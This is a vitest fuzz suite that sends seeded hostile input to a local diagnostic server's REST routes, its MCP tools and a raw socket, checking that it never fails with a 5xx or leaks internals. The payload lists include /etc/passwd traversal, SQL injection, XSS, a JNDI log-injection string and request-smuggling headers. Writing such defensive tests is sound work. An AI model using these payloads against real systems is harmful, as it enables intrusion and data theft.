import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seededRandom as seeded } from '../../pipeline/demo/seeded-random.js';
import { OPERATIONS, type OperationSpec } from '../../src/contract/operations.js';
import { toolInputSchema } from '../../src/mcp/tool-schemas.js';
import { mcpPost, rawExchange } from '../helpers/raw-http.js';
import { ROOT } from './build.js';
import { buildFixtureBundle, FIX, type TestApi, testApi } from './fixture.js';

/**
 * A bounded fuzz run over a listening server: a fixed seed, every REST route and every MCP tool and
 * method in both protocol eras, with hostile strings, traversal attempts, wrong types, oversize values and
 * malformed HTTP over a raw socket. Whatever the input, the server answers: never a 5xx, never a JSON-RPC
 * internal error, every HTTP error a problem document, no stack trace or server path in any body.
 *
 * HEATSOURCE_FUZZ_REQUESTS sets how many requests in all (1,000 by default; `npm run bench:fuzz` sends
 * 6,000), shared between the surfaces as below; HEATSOURCE_FUZZ_SEED the seed; HEATSOURCE_FUZZ_REPORT a
 * file to write the tally to.
 */

function envCount(name: string, fallback: number): number {
  const raw = process.env[name];
  if (raw === undefined || raw === '') return fallback;
  const n = Number(raw);
  if (!Number.isInteger(n) || n < 0) throw new Error(`${name} must be a whole number, not ${raw}`);
  return n;
}

const SEED = envCount('HEATSOURCE_FUZZ_SEED', 16);
const TOTAL = envCount('HEATSOURCE_FUZZ_REQUESTS', 1000);
const share = (part: number) => Math.max(1, Math.round(TOTAL * part));
/** REST requests, spread over every operation. */
const REST = share(0.4);
/** MCP tools/call requests (and broken envelopes), alternating the two eras. */
const TOOL_CALLS = share(0.22);
/** MCP requests of the other methods, each in both eras. */
const METHOD_CALLS = share(0.18);
/** Raw JSON bodies with __proto__ keys and lone surrogate escapes. */
const RAW_JSON = share(0.08);
/** Malformed HTTP over a raw socket. */
const RAW = share(0.12);

type Surface = 'rest' | 'mcp-tools' | 'mcp-methods' | 'raw-json' | 'raw-http';
/** What each surface was sent and answered, written to HEATSOURCE_FUZZ_REPORT when it is set. */
const tally: Record<
  Surface,
  { sent: number; statuses: Record<string, number>; rpcErrors: Record<string, number>; failures: number }
> = {
  rest: { sent: 0, statuses: {}, rpcErrors: {}, failures: 0 },
  'mcp-tools': { sent: 0, statuses: {}, rpcErrors: {}, failures: 0 },
  'mcp-methods': { sent: 0, statuses: {}, rpcErrors: {}, failures: 0 },
  'raw-json': { sent: 0, statuses: {}, rpcErrors: {}, failures: 0 },
  'raw-http': { sent: 0, statuses: {}, rpcErrors: {}, failures: 0 },
};
function count(surface: Surface, status: number, rpcCode?: number): void {
  const t = tally[surface];
  t.sent++;
  const key = status === 0 ? 'closed' : String(status);
  t.statuses[key] = (t.statuses[key] ?? 0) + 1;
  if (rpcCode !== undefined) t.rpcErrors[String(rpcCode)] = (t.rpcErrors[String(rpcCode)] ?? 0) + 1;
}

let api: TestApi;
let bundle: string;
let base: string;
let authorization: string;
let sessionId: string;
const random = seeded(SEED);
const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;

const HOSTILE = [
  '',
  ' ',
  '\t\n',
  'x'.repeat(101),
  'x'.repeat(301),
  'y'.repeat(5000),
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//',
  '\u0000',
  'a\u0000b',
  'x\ud800',
  '\udfff',
  '\ud83d\ude00'.repeat(40),
  '\u202eevil',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '"; DROP TABLE accounts; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, sent as is
  '${jndi:ldap://example.org/a}',
  '{{7*7}}',
  '%',
  '%%',
  '%ZZ',
  '__proto__',
  'constructor',
  'prototype',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9'.repeat(40),
  'null',
  'E9',
  'Demotherm',
  'DEMOTHERM',
  FIX.procedureChunk,
  FIX.alpha,
  'DT-A100-E',
  '\r\nX-Injected: 1',
];
const NUMBERS = [0, -1, 1, 2, 3, 1.5, -0, 1e308, Number.MAX_SAFE_INTEGER, 10_000, 4096, 99999];
const OTHERS: unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [1, 2],
  { a: { b: { c: 1 } } },
  { __proto__: { x: 1 } },
];

function hostileValue(schema: { type?: unknown } | undefined): unknown {
  const r = random();
  if (r < 0.55) return pick(HOSTILE);
  if (r < 0.75) return pick(NUMBERS);
  if (r < 0.9) return pick(OTHERS);
  // Sometimes a value of the declared type, so that deeper paths are reached.
  return schema?.type === 'integer' || schema?.type === 'number' ? pick(NUMBERS) : pick(HOSTILE);
}

const VALID: Record<string, () => unknown> = {
  brand: () => pick([FIX.brand, 'demotherm', 'Nope']),
  model: () => pick(['DT-A100-E', 'DT-A200-E', 'Alpha', 'DT-A100-TR']),
  code: () => pick(['E9', 'E01', 'P1', 'X1', 'e9', 'E09']),
  error_code: () => pick(['E9', 'E01', 'P1', 'X1', 'e9', 'E09']),
  chunk_id: () => pick([FIX.procedureChunk, `${FIX.alpha}.p2.1`]),
  document_id: () => pick([FIX.alpha, FIX.beta, FIX.gamma]),
  page: () => pick([1, 2, 3, 4, 99]),
  session_id: () => sessionId,
  q: () => pick(['flow switch', 'E9', 'thermistor']),
};

/** Input for an operation: each field valid, hostile or missing; sometimes an unknown field. */
function fuzzInput(op: OperationSpec): Record<string, unknown> {
  const schema = toolInputSchema(op).schema as { properties?: Record<string, { type?: unknown }> };
  const input: Record<string, unknown> = {};
  for (const [name, prop] of Object.entries(schema.properties ?? {})) {
    const r = random();
    if (r < 0.15) continue;
    input[name] = r < 0.5 && VALID[name] ? VALID[name]!() : hostileValue(prop);
  }
  if (random() < 0.1) input[pick(['extra', '__proto__', 'constructor'])] = pick(HOSTILE);
  return input;
}

function pathOf(op: OperationSpec, input: Record<string, unknown>): string {
  return op.path.replace(/:([a-z_]+)/g, (_m, name: string) => {
    const value = input[name];
    delete input[name];
    const text = typeof value === 'object' ? JSON.stringify(value) : String(value ?? '');
    // Mostly encoded as a client would; sometimes raw, to try traversal and bad escapes.
    if (random() < 0.8) {
      try {
        return encodeURIComponent(text);
      } catch {
        return 'x';
      }
    }
    return text.replace(/[\s?#]/g, '');
  });
}

interface Failure {
  request: string;
  status: number;
  why: string;
  body: string;
}

function leaks(body: string): string | null {
  if (/\n\s+at .+[:(]/.test(body) || /\bat .+\.(js|ts|mjs):\d+/.test(body)) return 'stack trace';
  if (body.includes(ROOT) || body.includes(path.dirname(bundle)) || body.includes('node_modules'))
    return 'server path';
  return null;
}

/** What is wrong with a REST response, or null. */
function checkRest(status: number, type: string | null, body: string): string | null {
  if (status >= 500) return '5xx';
  const leak = leaks(body);
  if (leak) return leak;
  if (status < 400) return null;
  if (!type?.startsWith('application/problem+json')) return `error as ${type}`;
  try {
    const doc = JSON.parse(body) as { code?: unknown; status?: unknown; type?: unknown };
    if (
      typeof doc.code !== 'string' ||
      doc.status !== status ||
      doc.type !== `urn:heatsource:problem:${doc.code}`
    )
      return 'not a problem document';
  } catch {
    return 'problem body is not JSON';
  }
  return null;
}

async function runAll<T>(items: T[], worker: (item: T) => Promise<void>, concurrency = 8): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: concurrency }, async () => {
      while (next < items.length) await worker(items[next++]!);
    }),
  );
}

beforeAll(async () => {
  bundle = await buildFixtureBundle();
  api = await testApi(bundle, {
    timeouts: { headersMs: 1000, requestMs: 2000, keepAliveMs: 5000, idleMs: 10_000, checkEveryMs: 200 },
  });
  authorization = (await api.key('fuzz')).authorization;
  base = await api.app.listen({ host: '127.0.0.1', port: 0 });
  const created = await fetch(`${base}/v2/diagnostic-sessions`, {
    method: 'POST',
    headers: { authorization, 'content-type': 'application/json', 'idempotency-key': 'fuzz-session' },
    body: JSON.stringify({ brand: FIX.brand, model: 'DT-A100-E', equipment: 'air_water', error_code: 'E9' }),
  });
  sessionId = ((await created.json()) as { id?: string; session_id?: string }).id ?? 'ds_missing';
}, 120_000);
afterAll(async () => {
  const out = process.env.HEATSOURCE_FUZZ_REPORT;
  if (out)
    fs.writeFileSync(out, `${JSON.stringify({ seed: SEED, total: TOTAL, surfaces: tally }, null, 2)}\n`);
  await api.close();
});

describe('fuzzing every route and tool', () => {
  it('answers every REST route with a problem document or a success, never a 5xx', async () => {
    const requests: { method: string; url: string; headers: Record<string, string>; body?: string }[] = [];
    const perRoute = Math.ceil(REST / OPERATIONS.length);
    for (const op of OPERATIONS) {
      for (let i = 0; i < perRoute; i++) {
        const input = fuzzInput(op);
        let url = pathOf(op, input);
        const headers: Record<string, string> = {};
        if (random() < 0.9) headers.authorization = authorization;
        if (random() < 0.3) headers['idempotency-key'] = pick([...HOSTILE.slice(0, 12), `k-${i}`]);
        if (random() < 0.2) headers.accept = pick(['image/png', 'text/html', '*/*', 'image/*;q=0', '']);
        let body: string | undefined;
        const method = random() < 0.05 ? pick(['PUT', 'DELETE', 'PATCH']) : op.method;
        if (op.method === 'GET') {
          const qs = new URLSearchParams();
          for (const [k, v] of Object.entries(input))
            qs.set(k, typeof v === 'object' ? JSON.stringify(v) : String(v));
          if (qs.size > 0) url += `?${qs}`;
        } else {
          const r = random();
          body =
            r < 0.8
              ? JSON.stringify(input)
              : pick([
                  '',
                  '{',
                  '[]',
                  'null',
                  '"x"',
                  '{"a":'.repeat(500),
                  JSON.stringify({ big: 'z'.repeat(70_000) }),
                ]);
          headers['content-type'] =
            random() < 0.9
              ? 'application/json'
              : pick(['text/plain', 'application/xml', 'application/json; charset=latin1', '']);
        }
        requests.push({ method, url, headers, body });
      }
    }
    const failures: Failure[] = [];
    let sent = 0;
    await runAll(requests, async (r) => {
      let res: Response;
      try {
        res = await fetch(`${base}${r.url}`, { method: r.method, headers: r.headers, body: r.body });
      } catch {
        return; // A request the client itself refuses to send (a header with a line break).
      }
      sent++;
      const text = await res.text();
      const why = checkRest(res.status, res.headers.get('content-type'), text);
      count('rest', res.status);
      if (why)
        failures.push({
          request: `${r.method} ${r.url}`.slice(0, 200),
          status: res.status,
          why,
          body: text.slice(0, 300),
        });
    });
    tally.rest.failures = failures.length;
    expect(failures.slice(0, 5)).toEqual([]);
    expect(sent).toBeGreaterThan(OPERATIONS.length * perRoute * 0.9);
  }, 120_000);

  it('answers every MCP tool call with a result or a tool error, never an internal error', async () => {
    const list = await mcp({ jsonrpc: '2.0', id: 0, method: 'tools/list', params: {} });
    const tools = (list.body.result as { tools: { name: string }[] }).tools.map((t) => t.name);
    expect(tools.length).toBeGreaterThanOrEqual(OPERATIONS.length);
    const calls: unknown[] = [];
    let id = 1;
    const perTool = Math.ceil((TOOL_CALLS * 0.9) / tools.length);
    for (const name of tools) {
      const op = OPERATIONS.find((o) => o.name === name);
      for (let i = 0; i < perTool; i++) {
        const args = op ? fuzzInput(op) : { x: pick(HOSTILE) };
        if (random() < 0.2) args.request_id = pick(HOSTILE);
        calls.push({ jsonrpc: '2.0', id: id++, method: 'tools/call', params: { name, arguments: args } });
      }
    }
    // Broken envelopes too.
    for (let i = 0; i < Math.ceil(TOOL_CALLS * 0.1); i++) {
      calls.push(
        pick<unknown>([
          { jsonrpc: '2.0', id: id++, method: 'tools/call', params: { name: pick(HOSTILE), arguments: {} } },
          {
            jsonrpc: '2.0',
            id: id++,
            method: 'tools/call',
            params: { name: 'diagnose', arguments: pick(OTHERS) },
          },
          { jsonrpc: '2.0', id: pick<unknown>([null, {}, [], 'x'.repeat(300)]), method: 'tools/list' },
          { jsonrpc: '1.0', id: id++, method: 'tools/list' },
          { jsonrpc: '2.0', id: id++, method: pick(HOSTILE) },
          {
            jsonrpc: '2.0',
            id: id++,
            method: 'resources/read',
            params: { uri: `heatsource://documents/${pick(HOSTILE)}/pages/1` },
          },
          [],
          'x',
        ]),
      );
    }
    const failures: Failure[] = [];
    let n = 0;
    const results = { '2025': 0, '2026': 0 };
    await runAll(calls, async (call) => {
      const era = n++ % 2 === 0 ? '2025' : '2026';
      const r = await mcpInEra(era, call);
      if ((r.body as { result?: unknown }).result !== undefined) results[era]++;
      const text = JSON.stringify(r.body);
      const rpcError = (r.body as { error?: { code?: number } } | null)?.error;
      count('mcp-tools', r.status, rpcError?.code);
      const why =
        r.status >= 500
          ? '5xx'
          : rpcError?.code === -32603
            ? 'JSON-RPC internal error'
            : (leaks(text) ??
              (r.status >= 400 && !rpcError && !r.type?.startsWith('application/problem+json')
                ? `error as ${r.type}`
                : null));
      if (why)
        failures.push({
          request: JSON.stringify(call).slice(0, 200),
          status: r.status,
          why,
          body: text.slice(0, 300),
        });
      const result = (r.body as { result?: { isError?: boolean; structuredContent?: { code?: unknown } } })
        .result;
      if (result?.isError && typeof result.structuredContent?.code !== 'string') {
        failures.push({
          request: JSON.stringify(call).slice(0, 200),
          status: r.status,
          why: 'tool error without a problem',
          body: text.slice(0, 300),
        });
      }
      if (result?.isError && result.structuredContent?.code === 'internal_error') {
        failures.push({
          request: JSON.stringify(call).slice(0, 200),
          status: r.status,
          why: 'internal_error',
          body: text.slice(0, 300),
        });
      }
    });
    tally['mcp-tools'].failures = failures.length;
    expect(failures.slice(0, 5)).toEqual([]);
    // Both eras reach the tools (a result or a tool error), not only the transport's checks.
    expect(results['2025']).toBeGreaterThan(calls.length / 4);
    expect(results['2026']).toBeGreaterThan(calls.length / 4);
  }, 120_000);

  it('answers hostile params of every other MCP method, in both eras, with a result or -32602, never -32603', async () => {
    const value = () => (random() < 0.5 ? pick(HOSTILE) : random() < 0.5 ? pick(NUMBERS) : pick(OTHERS));
    const paramsFor: Record<string, () => Record<string, unknown>> = {
      initialize: () => ({
        protocolVersion: pick<unknown>(['2025-06-18', '2025-11-25', ...HOSTILE.slice(0, 6), 42, null]),
        capabilities: random() < 0.7 ? {} : value(),
        clientInfo: random() < 0.6 ? { name: 'fuzz', version: '0' } : value(),
      }),
      'completion/complete': () => ({
        ref: pick<unknown>([
          42,
          null,
          { type: 'ref/prompt', name: value() },
          { type: 'ref/prompt', name: 'troubleshoot_error_code' },
          { type: 'ref/resource', uri: value() },
          { type: value(), name: 'x' },
        ]),
        argument:
          random() < 0.6 ? { name: pick(['brand', 'model', 'document_id', 'x']), value: value() } : value(),
        ...(random() < 0.3 ? { context: { arguments: value() } } : {}),
      }),
      'prompts/get': () => ({
        name: random() < 0.5 ? 'troubleshoot_error_code' : value(),
        ...(random() < 0.7
          ? { arguments: random() < 0.5 ? { brand: value(), model: value() } : value() }
          : {}),
      }),
      'resources/read': () => ({
        uri: random() < 0.5 ? `heatsource://documents/${pick(HOSTILE)}/pages/${pick(NUMBERS)}` : value(),
      }),
      'tools/list': () => ({ cursor: value() }),
      'resources/list': () => ({ cursor: value() }),
      'resources/templates/list': () => ({ cursor: value() }),
      'prompts/list': () => ({ cursor: value() }),
    };
    const calls: { era: '2025' | '2026'; method: string; body: string }[] = [];
    const perMethod = Math.ceil(METHOD_CALLS / (2 * Object.keys(paramsFor).length));
    for (const [method, make] of Object.entries(paramsFor)) {
      for (let i = 0; i < perMethod; i++) {
        const params = make();
        // A __proto__ key, which JSON can carry and an object literal cannot.
        const text = JSON.stringify({ jsonrpc: '2.0', id: i + 1, method, params });
        const body = random() < 0.1 ? text.replace('"params":{', '"params":{"__proto__":{"x":1},') : text;
        calls.push({ era: '2025', method, body });
        if (method !== 'initialize') {
          const modern = JSON.stringify({
            jsonrpc: '2.0',
            id: i + 1,
            method,
            params: { ...params, _meta: MODERN_META },
          });
          calls.push({ era: '2026', method, body: modern });
        }
      }
    }
    const failures: Failure[] = [];
    await runAll(calls, async (call) => {
      const headers: Record<string, string> = {
        authorization,
        'content-type': 'application/json',
        accept: 'application/json, text/event-stream',
      };
      if (call.era === '2026') {
        headers['mcp-protocol-version'] = '2026-07-28';
        headers['mcp-method'] = call.method;
        const name = mcpName(
          call.method,
          (JSON.parse(call.body) as { params: Record<string, unknown> }).params,
        );
        if (name !== undefined) headers['mcp-name'] = name;
      } else {
        headers['mcp-protocol-version'] = '2025-11-25';
      }
      const res = await fetch(`${base}/mcp`, { method: 'POST', headers, body: call.body });
      const text = await res.text();
      type Reply = { error?: { code?: number; message?: string } };
      let reply: Reply | null = null;
      try {
        reply = JSON.parse(text) as Reply;
      } catch {
        reply = null;
      }
      const code = reply?.error?.code;
      count('mcp-methods', res.status, code);
      const type = res.headers.get('content-type');
      const why =
        res.status >= 500
          ? '5xx'
          : code === -32603
            ? 'JSON-RPC internal error'
            : (leaks(text) ??
              (reply === null
                ? 'not JSON'
                : typeof reply.error?.message === 'string' && /^\s*\[/.test(reply.error.message)
                  ? 'raw issue list as message'
                  : res.status >= 400 && !reply.error && !type?.startsWith('application/problem+json')
                    ? `error as ${type}`
                    : null));
      if (why)
        failures.push({
          request: `${call.era} ${call.body.slice(0, 180)}`,
          status: res.status,
          why,
          body: text.slice(0, 300),
        });
    });
    tally['mcp-methods'].failures = failures.length;
    expect(failures.slice(0, 5)).toEqual([]);
  }, 120_000);

  it('refuses raw JSON bodies with __proto__ keys and lone surrogate escapes as problem documents', async () => {
    const k = await api.key('fuzz-raw-json');
    const fields = [
      `"brand":"${FIX.brand}"`,
      '"model":"DT-A100-E\\ud800"',
      '"brand":"\\udfff"',
      '"error_code":"E9"',
      '"__proto__":{"x":1}',
      '"__proto__":null',
      '"constructor":{"prototype":{"x":1}}',
      '"model":"DT-A100-E"',
    ];
    const targets = [
      '/v1/diagnostic',
      '/v2/diagnostic',
      '/v1/diagnostic/turn',
      '/v2/diagnostic-sessions',
      '/v2/models/resolve',
    ];
    const failures: Failure[] = [];
    const cases = Array.from({ length: RAW_JSON }, () => {
      const chosen = fields.filter(() => random() < 0.5);
      return { url: pick(targets), body: `{${chosen.join(',')}}` };
    });
    await runAll(cases, async (c) => {
      const res = await fetch(`${base}${c.url}`, {
        method: 'POST',
        headers: { authorization: k.authorization, 'content-type': 'application/json' },
        body: c.body,
      });
      const text = await res.text();
      count('raw-json', res.status);
      let why = checkRest(res.status, res.headers.get('content-type'), text);
      // What the server must refuse is what the body says once parsed: with a key given twice, the last.
      const parsed = JSON.parse(c.body) as Record<string, unknown>;
      const suspicious = Object.entries(parsed).some(
        ([k, v]) =>
          k === '__proto__' ||
          k === 'constructor' ||
          (typeof v === 'string' && /[\ud800-\udfff]/.test(v.replace(/[\ud800-\udbff][\udc00-\udfff]/g, ''))),
      );
      if (!why && suspicious && res.status < 400) why = `accepted: ${res.status}`;
      if (
        !why &&
        suspicious &&
        res.status >= 400 &&
        (JSON.parse(text) as { code: string }).code === 'malformed_json'
      )
        why = 'valid JSON called malformed';
      if (why)
        failures.push({
          request: `${c.url} ${c.body}`.slice(0, 200),
          status: res.status,
          why,
          body: text.slice(0, 300),
        });
    });
    tally['raw-json'].failures = failures.length;
    expect(failures.slice(0, 5)).toEqual([]);
  }, 120_000);

  it('answers malformed HTTP over a raw socket with a problem document, or closes', async () => {
    const lines = [
      'GET /v1/me HTTP/1.1',
      'POST /v1/diagnostic HTTP/1.1',
      'GET /v1/procedure/%ZZ HTTP/1.1',
      'GET /../../etc/passwd HTTP/1.1',
      'GET /v1/pdf-snapshot/..%2F..%2Fetc%2Fpasswd/1 HTTP/1.1',
      'GET http://evil.example/v1/me HTTP/1.1',
      'GET * HTTP/1.1',
      'BREW /coffee HTTP/1.1',
      'GET /v1/me HTTP/1.0',
      'GET /v1/me HTTP/2.0',
      'GET /v1/me',
      'G\u0000T / HTTP/1.1',
      `GET /${'a'.repeat(9000)} HTTP/1.1`,
    ];
    const headerSets = [
      'Host: x',
      '',
      `Authorization: ${authorization}`,
      'Host: x\r\nContent-Length: -1',
      'Host: x\r\nContent-Length: abc',
      'Host: x\r\nContent-Length: 3\r\nContent-Length: 4',
      'Host: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3',
      'Host: x\r\nTransfer-Encoding: gzip, chunked',
      'Host: x\r\nBad Header: 1',
      'Host: x\r\n: empty-name',
      'Host: x\r\nX-Long: ' + 'h'.repeat(20_000),
      'Host: x\r\nContent-Type: application/json\r\nContent-Length: 10',
      'Host: x\r\n\tfolded: 1',
    ];
    const bodies = ['', '{', '{"brand":"Demotherm"}', '0\r\n\r\n', 'zz\r\nabc\r\n', '\u0000\u0001\u0002'];
    const failures: Failure[] = [];
    const cases = Array.from(
      { length: RAW },
      () => `${pick(lines)}\r\n${pick(headerSets)}\r\n\r\n${pick(bodies)}`,
    );
    await runAll(
      cases,
      async (raw) => {
        // Half-closed after writing, as a client that sent all it will send.
        const r = await rawExchange(base, raw, 5000, { endAfterWrite: true });
        count('raw-http', r.status);
        const why =
          !r.closed && r.status === 0
            ? 'no answer and not closed'
            : r.status >= 500
              ? '5xx'
              : r.status >= 400
                ? checkRest(r.status, r.headers['content-type'] ?? null, r.body)
                : leaks(r.text);
        if (why)
          failures.push({
            request: JSON.stringify(raw.slice(0, 150)),
            status: r.status,
            why,
            body: r.text.slice(0, 300),
          });
      },
      6,
    );
    tally['raw-http'].failures = failures.length;
    expect(failures.slice(0, 5)).toEqual([]);
  }, 120_000);
});

function mcp(message: unknown) {
  return mcpPost(`${base}/mcp`, authorization, message);
}

const MODERN_META = {
  'io.modelcontextprotocol/protocolVersion': '2026-07-28',
  'io.modelcontextprotocol/clientInfo': { name: 'fuzz', version: '0' },
  'io.modelcontextprotocol/clientCapabilities': {},
};

/**
 * The Mcp-Name header the 2026-07-28 era asks of a request naming a tool, prompt or resource, as a client
 * would send it: the name in printable ASCII (a header cannot carry more; a name that loses characters
 * on the way meets the server's mismatch check, which is hostile input too).
 */
function mcpName(method: unknown, params: Record<string, unknown>): string | undefined {
  const value =
    method === 'resources/read'
      ? params.uri
      : method === 'tools/call' || method === 'prompts/get'
        ? params.name
        : undefined;
  return typeof value === 'string' ? value.replace(/[^\x20-\x7e]/g, '').trim() : undefined;
}

/** One MCP message in the 2025-11-25 era, or the 2026-07-28 era (its headers and `_meta`). */
async function mcpInEra(era: '2025' | '2026', message: unknown) {
  const headers: Record<string, string> = {
    authorization,
    'content-type': 'application/json',
    accept: 'application/json, text/event-stream',
    'mcp-protocol-version': era === '2026' ? '2026-07-28' : '2025-11-25',
  };
  let body = message;
  if (era === '2026' && message && typeof message === 'object' && !Array.isArray(message)) {
    const m = message as { method?: unknown; params?: unknown };
    if (typeof m.method === 'string') headers['mcp-method'] = m.method.replace(/[^\x21-\x7e]/g, '');
    const params =
      m.params && typeof m.params === 'object' && !Array.isArray(m.params)
        ? (m.params as Record<string, unknown>)
        : {};
    const name = mcpName(m.method, params);
    if (name !== undefined) headers['mcp-name'] = name;
    body = { ...m, params: { ...params, _meta: MODERN_META } };
  }
  const res = await fetch(`${base}/mcp`, { method: 'POST', headers, body: JSON.stringify(body) });
  const text = await res.text();
  let parsed: Record<string, unknown>;
  try {
    parsed = JSON.parse(text) as Record<string, unknown>;
  } catch {
    parsed = { text };
  }
  return { status: res.status, type: res.headers.get('content-type'), body: parsed };
}

describe('what holds under concurrency', () => {
  it('charges one unit for many concurrent retries with one Idempotency-Key', async () => {
    const k = await api.key('retries', { quota: 1000 });
    const send = () =>
      fetch(`${base}/v1/diagnostic`, {
        method: 'POST',
        headers: {
          authorization: k.authorization,
          'content-type': 'application/json',
          'idempotency-key': 'same',
        },
        body: JSON.stringify({ brand: FIX.brand, model: 'DT-A100-E', error_code: 'E9' }),
      }).then((r) => r.status);
    const statuses = await Promise.all(Array.from({ length: 300 }, send));
    expect(statuses.every((s) => s === 200 || s === 409)).toBe(true);
    expect(statuses.filter((s) => s === 200).length).toBeGreaterThan(0);
    expect(await api.state.ledger({ account_id: k.accountId })).toHaveLength(1);
  }, 60_000);

  it('allows exactly the quota under concurrent calls', async () => {
    const k = await api.key('quota-50', { quota: 50 });
    const send = () =>
      fetch(`${base}/v1/diagnostic`, {
        method: 'POST',
        headers: { authorization: k.authorization, 'content-type': 'application/json' },
        body: JSON.stringify({ brand: FIX.brand, model: 'DT-A100-E', error_code: 'E9' }),
      }).then((r) => r.status);
    const statuses = await Promise.all(Array.from({ length: 200 }, send));
    expect(statuses.filter((s) => s === 200)).toHaveLength(50);
    expect(statuses.filter((s) => s === 429)).toHaveLength(150);
    expect((await api.state.quota(k.accountId)).used).toBe(50);
  }, 60_000);

  it("answers 404 to every read or write of another account's session", async () => {
    const other = await api.key('intruder');
    const paths = ['', '/summary', '/responses', '/undo', '/close'];
    for (const p of paths) {
      const res = await fetch(`${base}/v2/diagnostic-sessions/${sessionId}${p}`, {
        method: p === '' || p === '/summary' ? 'GET' : 'POST',
        headers: {
          authorization: other.authorization,
          'content-type': 'application/json',
          'idempotency-key': `x${p}`,
        },
        body:
          p === '' || p === '/summary'
            ? undefined
            : JSON.stringify(p === '/responses' ? { action_id: 'a', value: true } : {}),
      });
      expect(res.status, p).toBe(404);
      expect(((await res.json()) as { code: string }).code).toBe('session_not_found');
    }
    const own = await fetch(`${base}/v2/diagnostic-sessions/${sessionId}`, { headers: { authorization } });
    expect(own.status).toBe(200);
  });
});
